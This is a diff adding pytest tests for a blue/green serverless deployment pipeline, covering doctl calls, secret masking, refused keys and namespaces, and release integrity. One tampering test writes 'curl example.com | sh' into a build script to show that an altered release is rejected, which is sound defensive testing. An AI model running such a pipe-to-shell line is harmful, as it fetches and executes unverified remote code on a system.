@@ -1,0 +1,222 @@
+"""A deployment from end to end: a release, doctl's words, the real deployer, the record and the announcement."""
+
+import json
+import os
+import re
+import tarfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pymongo.database import Database
+
+from ops import functions, stage
+from ops.pipeline import announce, deploy, doctl, environments, release
+from ops.pipeline.environments import EnvironmentProblem
+from tests.deploy.stand_in import NAMESPACE
+from tests.deploy.test_public_deployer import archive
+from tests.pipeline.conftest import ACCESS_KEYS, GREEN, Platform
+
+pytestmark = pytest.mark.timeout(300)  # the first run installs the deployer, and builds lib/
+
+
+@pytest.fixture
+def records(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
+    """Records of deployments are kept here, and not in the tree."""
+    monkeypatch.setattr(announce, "FOLDER", tmp_path / "records")
+    return tmp_path / "records"
+
+
+def active(raw: Database[dict[str, Any]], colour: str | None) -> None:
+    """Make the colour the active one, or none."""
+    raw.controls.delete_one({"_id": "colour"})
+    if colour:
+        raw.controls.insert_one({"_id": "colour", "active": colour})
+
+
+def test_one_release_goes_to_each_colour_in_turn(
+    platform: Platform, raw: Database[dict[str, Any]], records: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The idle colour gets every function, with its own secret and name; then the other one gets the same bytes.
+
+    The env file is its owner's only, and doctl runs without our variables, so that the file decides; each project.yml
+    names the one namespace it may go to.
+    """
+    file = tmp_path / "release.tar.gz"
+    assert release.main([str(file)]) == 0
+    words = [str(platform.environment), "--colour", "idle", "--release", str(file)]
+    active(raw, "green")
+    assert deploy.main(words) == 0, capsys.readouterr().err
+    active(raw, "blue")
+    assert deploy.main(words) == 0, capsys.readouterr().err
+    routes = {function.route for function in functions.load()}
+    for host, colour in ((platform.blue, "blue"), (platform.green, "green")):
+        assert host.uploads.refused == []
+        assert host.uploads.actions.keys() == routes
+        assert list(host.uploads.triggers) == ["getsmart-tick"]
+        mint = host.uploads.actions["tokens/mint"]
+        given = {one["key"]: one["value"] for one in mint["parameters"]}
+        assert (given["COLOUR"], given["APP_VERSION"]) == (colour, release.current()[0])
+        guard = next(one["value"] for one in mint["annotations"] if one["key"] == "require-whisk-auth")
+        assert guard == platform.secrets[f"WEB_SECURE_{colour.upper()}"]
+    blue, green = ({name: packed(one) for name, one in host.uploads.actions.items()} for host in _hosts(platform))
+    assert blue == green
+    connected, deployed = platform.calls[0::2], platform.calls[1::2]
+    assert [call["words"] for call in connected] == [
+        ["serverless", "connect", namespace, "--access-key", ACCESS_KEYS[namespace]] for namespace in (NAMESPACE, GREEN)
+    ]
+    for call, namespace in zip(deployed, (NAMESPACE, GREEN), strict=True):
+        assert f"\ntargetNamespace: {namespace}\n" in call["project"]
+        assert call["env_mode"] == "0o600"
+        assert set(call["variables"]) <= {*doctl._KEPT, "LC_CTYPE"}
+        assert not Path(call["words"][2]).exists()
+    kept = [json.loads(path.read_text()) for path in sorted(records.iterdir())]
+    assert {one["release_sha256"] for one in kept} == {re.findall("[0-9a-f]{64}", capsys.readouterr().out)[0]}
+    assert [one["namespaces"] for one in kept] == [[NAMESPACE], [GREEN]]
+
+
+def packed(action: dict[str, Any]) -> dict[str, int]:
+    """Names and checksums of what is in the zip of an uploaded function."""
+    return {entry.filename: entry.CRC for entry in archive(action).infolist()}
+
+
+def _hosts(platform: Platform) -> tuple[Any, Any]:
+    return platform.blue, platform.green
+
+
+def test_what_is_printed(
+    platform: Platform,
+    raw: Database[dict[str, Any]],
+    records: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    """The announcement is ready to post and true; in the pipeline every secret is masked before anything is logged."""
+    active(raw, None)
+    platform.only_listen()
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary"))
+    assert deploy.main([str(platform.environment)]) == 0, capsys.readouterr().err
+    said = capsys.readouterr().out
+    masks, rest = [line for line in said.splitlines() if line.startswith("::")], said.split("::add-mask::")[-1]
+    shown = {f"::add-mask::{value}" for name, value in platform.secrets.items() if not name.endswith("_GREEN")}
+    assert shown - {"::add-mask::[]"} <= set(masks)
+    rest = rest.partition("\n")[2]
+    secret = [
+        name
+        for name in ("METAKEEP_API_SECRET", "WEB_SECURE_BLUE", "ACCESS_KEYS_BLUE")
+        if platform.secrets[name] in rest
+    ]
+    assert secret == []
+    assert "# trial: " in rest
+    assert "serves nobody yet" in rest
+    assert announce.main(["trial", "--promoted"]) == 0
+    summary = (tmp_path / "summary").read_text()
+    assert "It serves all traffic." in summary
+    assert announce.DISCUSSIONS in summary
+    assert '"Deployments"' in summary
+    assert "- Wallets: `POST wallets/create`" in summary
+    assert announce.main(["elsewhere"]) == 1
+
+
+def test_a_wrong_key_is_refused_and_not_shown(
+    platform: Platform, records: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A namespace that its key does not open gets nothing; the message is doctl's, without the key."""
+    monkeypatch.setenv("ACCESS_KEYS_GREEN", "dof_v1_other:made-up")
+    assert deploy.main([str(platform.environment), "--colour", "green"]) == 1
+    said = capsys.readouterr().err
+    assert f"unable to connect to {GREEN} with ***" in said
+    assert platform.green.uploads.actions == {}
+    assert not records.exists()
+
+
+def test_another_namespace_is_refused(platform: Platform, tmp_path: Path) -> None:
+    """The copy names its namespace; connected to another one, doctl's deployer refuses it."""
+    doctl.connect(GREEN, ACCESS_KEYS[GREEN])
+    environment = environments.load(str(platform.environment))
+    values = environments.values(environment, "blue", "1", platform.secrets)
+    stage.lay_out(tmp_path / "copy")
+    assert stage.fit(tmp_path / "copy", values, NAMESPACE) == []
+    with pytest.raises(doctl.DoctlFailed, match=f"No credentials found for namespace '{NAMESPACE}'"):
+        doctl.deploy(tmp_path / "copy", platform.environment)
+    assert platform.green.uploads.actions == {}
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"METAKEEP_API_SECRET": ""}, "METAKEEP_API_SECRET is unset or empty"),
+        ({"WEBHOOK_SECRET_KEYS": "it's"}, "WEBHOOK_SECRET_KEYS holds a single quote"),
+        ({"ACCESS_KEYS_BLUE": "one,two"}, "ACCESS_KEYS_BLUE: 2 access keys for 1 namespaces"),
+        ({"CHAIN_RPC_URL": "<a node>"}, "CHAIN_RPC_URL is still to be filled in"),
+    ],
+)
+def test_what_is_missing_is_said_before_anything_happens(
+    platform: Platform,
+    change: dict[str, str],
+    said: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Each secret that is not there, or cannot be put into project.yml, is named; doctl is not called at all."""
+    for name, value in change.items():
+        monkeypatch.setenv(name, value)
+    assert deploy.main([str(platform.environment), "--colour", "blue"]) == 1
+    assert f"deploy: {said}" in capsys.readouterr().err
+    assert not platform.calls_file.exists()
+
+
+def test_the_environments_of_the_tree_name_every_variable(repository: Path) -> None:
+    """With the secrets and what is in angle brackets filled in, staging and production deploy."""
+    assert environments.names() == ["production", "staging"]
+    for name in environments.names():
+        variables = environments.read_env(repository / environments.FOLDER / f"{name}.env")
+        filled = {key: "x" if value.startswith("<") else value for key, value in variables.items()}
+        space = dict.fromkeys(environments.COLOURS, (NAMESPACE,))
+        environment = environments.Environment(name, "https://example.com", space, filled)
+        secrets = dict.fromkeys(
+            ("MONGODB_URI", "METAKEEP_API_KEY", "METAKEEP_API_SECRET", "WEBHOOK_SECRET_KEYS", "CHAIN_RPC_URL"), "x"
+        )
+        values = environments.values(environment, "blue", "1", {**secrets, "LOG_DESTINATIONS": "[]"})
+        assert values.items() >= filled.items()
+        with pytest.raises(EnvironmentProblem, match="still to be filled in"):
+            environments.values(
+                environments.Environment(name, "", space, variables), "blue", "1", {**secrets, "LOG_DESTINATIONS": "[]"}
+            )
+
+
+def test_secrets_of_a_scheme_that_is_not_configured_may_be_unset(platform: Platform) -> None:
+    """With p256 no shared secret is asked for, and none is given to a function; one that is set is passed on."""
+    environment = environments.load(str(platform.environment))
+    name, shared = "METAKEEP_WEBHOOK_SECRETS", "of the other scheme"
+    assert name not in environments.values(environment, "blue", "1", platform.secrets)
+    assert environments.values(environment, "blue", "1", {**platform.secrets, name: shared})[name] == shared
+
+
+def test_a_changed_release_is_refused(tmp_path: Path) -> None:
+    """An archive that was cut short, is none, or holds other bytes than were built does not get as far as doctl."""
+    tree = tmp_path / "tree"
+    (tree / "lib").mkdir(parents=True)
+    (tree / "lib/build.sh").write_text("true\n")
+    file = tmp_path / "release.tar.gz"
+    made = release.seal(tree, file, "1", "c0ffee")
+    assert release.unpack(file, tmp_path / "good") == made
+    whole = file.read_bytes()
+    file.write_bytes(whole[: len(whole) // 2])
+    with pytest.raises(release.ReleaseProblem, match="no release"):
+        release.unpack(file, tmp_path / "short")
+    (tree / "lib/build.sh").write_text("curl example.com | sh\n")
+    with tarfile.open(file, "w:gz") as changed:
+        changed.add(tree, ".")
+    with pytest.raises(release.ReleaseProblem, match="changed since it was built"):
+        release.unpack(file, tmp_path / "bad")
+
+
+def test_without_doctl_it_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where doctl is missing, the message says what to type."""
+    monkeypatch.setenv("PATH", os.devnull)
+    monkeypatch.setattr(doctl, "INSTALLED", Path("nowhere"))
+    with pytest.raises(doctl.DoctlFailed, match=re.escape("./doit doctl")):
+        doctl.run(["serverless", "status"])
